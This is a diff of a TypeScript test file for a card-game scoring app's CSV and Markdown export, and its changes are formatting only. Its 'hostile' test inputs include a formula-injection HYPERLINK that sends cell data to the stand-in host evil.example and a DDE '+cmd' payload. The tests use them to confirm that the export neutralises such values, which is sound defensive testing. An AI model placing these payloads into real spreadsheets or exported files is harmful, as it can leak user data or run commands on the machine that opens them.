@@ -30,7 +30,7 @@ describe('CSV', () => {
     expect(sheetCsv(vrijdagA(), 'en')).toBe(SHEET_A_CSV);
   });
 
-  test('an evening: each sheet in playing order, then each player\'s totals per game', () => {
+  test("an evening: each sheet in playing order, then each player's totals per game", () => {
     // Given out of order: the evening sorts by start time.
     const text = eveningsCsv(eveningsOf([vrijdagB(), vrijdagA()]), 'en');
     expect(text).toBe(`${SHEET_A_CSV}
@@ -77,13 +77,18 @@ Eva,5,
     ]);
   });
 
-  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', '+cmd|\' /C calc\'!A0', '-1', '@x', '-2+3'];
+  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", '-1', '@x', '-2+3'];
   test.each(hostile)('a title %j comes back as text behind a quote, never as a formula', (title) => {
-    const s = sheet('kleurenwiezen', ["O'Brien", 'Jean-Pierre', 'a_b c', '3.14'], ["samen 8 --by O'Brien,Jean-Pierre --tricks 7", 'solo 6 --by 3.14 --tricks 8'], {
-      id: 'x-1',
-      title,
-      createdAt: '2026-11-27T12:00:00.000Z',
-    });
+    const s = sheet(
+      'kleurenwiezen',
+      ["O'Brien", 'Jean-Pierre', 'a_b c', '3.14'],
+      ["samen 8 --by O'Brien,Jean-Pierre --tricks 7", 'solo 6 --by 3.14 --tricks 8'],
+      {
+        id: 'x-1',
+        title,
+        createdAt: '2026-11-27T12:00:00.000Z',
+      },
+    );
     const text = sheetCsv(s, 'en');
     const rows = parse(text, { relax_column_count: true }) as string[][];
     expect(rows[1][1]).toBe(`'${title}`);
@@ -94,10 +99,11 @@ Eva,5,
     const typed = parse(text, { relax_column_count: true, cast: true }) as unknown[][];
     expect(typed[5]).toEqual(['total', '', '', -10, -10, 10, 28]);
     // Every cell is a plain number or text that a spreadsheet will not evaluate.
-    for (const row of rows) for (const cell of row) if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    for (const row of rows)
+      for (const cell of row) if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
 
-  test('escaping is the library\'s: tab and carriage return too, numbers untouched, quotes doubled', () => {
+  test("escaping is the library's: tab and carriage return too, numbers untouched, quotes doubled", () => {
     const text = toCsv([['\tx', '\rx', 'a,b', 'say "hi"', -3, { cents: -5 }, null]]);
     expect(text).toBe(`'\tx,"'\rx","a,b","say ""hi""",-3,-0.05,\n`);
   });
@@ -157,8 +163,12 @@ Next dealer: Cis
 
   test('money in Markdown: two decimals, signed; the pot unsigned, as on the sheet', () => {
     const md = sheetOnlyMarkdown(vrijdagZwikken(), 'en');
-    expect(md).toContain('| 1     | Ann    | Ann, Bert asked; Ann won           | +0.30 | -0.50 | -0.10 | -0.10 | 0.40 |');
-    expect(md).toContain('| total |        |                                    | +0.20 | -0.60 | -0.60 | -0.20 | 1.20 |');
+    expect(md).toContain(
+      '| 1     | Ann    | Ann, Bert asked; Ann won           | +0.30 | -0.50 | -0.10 | -0.10 | 0.40 |',
+    );
+    expect(md).toContain(
+      '| total |        |                                    | +0.20 | -0.60 | -0.60 | -0.20 | 1.20 |',
+    );
   });
 
   test.each([
@@ -169,7 +179,14 @@ Next dealer: Cis
     ['[x](http://y)', '\\[x\\](http://y)'],
   ])('a title %j cannot break the table or turn into markup', (title, escaped) => {
     expect(mdEscape(title)).toBe(escaped);
-    const md = sheetOnlyMarkdown(sheet('kleurenwiezen', ['Ann', 'Bert', 'Cis', 'Dirk'], [], { id: 'x-1', title, createdAt: '2026-11-27T12:00:00.000Z' }), 'en');
+    const md = sheetOnlyMarkdown(
+      sheet('kleurenwiezen', ['Ann', 'Bert', 'Cis', 'Dirk'], [], {
+        id: 'x-1',
+        title,
+        createdAt: '2026-11-27T12:00:00.000Z',
+      }),
+      'en',
+    );
     expect(md.split('\n')[0]).toBe(`### ${escaped}`);
   });
 });
@@ -193,7 +210,10 @@ describe('evenings', () => {
   });
 
   test('evenings come oldest first, sheets in playing order', () => {
-    const late = sheet('kleurenwiezen', ['Ann', 'Bert', 'Cis', 'Dirk'], [], { id: 'late', createdAt: '2026-12-04T12:00:00.000Z' });
+    const late = sheet('kleurenwiezen', ['Ann', 'Bert', 'Cis', 'Dirk'], [], {
+      id: 'late',
+      createdAt: '2026-12-04T12:00:00.000Z',
+    });
     const groups = eveningsOf([late, vrijdagB(), vrijdagA()]);
     expect(groups.map((e) => [e.date, e.sheets.map((s) => s.data.id)])).toEqual([
       ['2026-11-27', ['2026-11-27-kleurenwiezen', '2026-11-27-kleurenwiezen-2']],
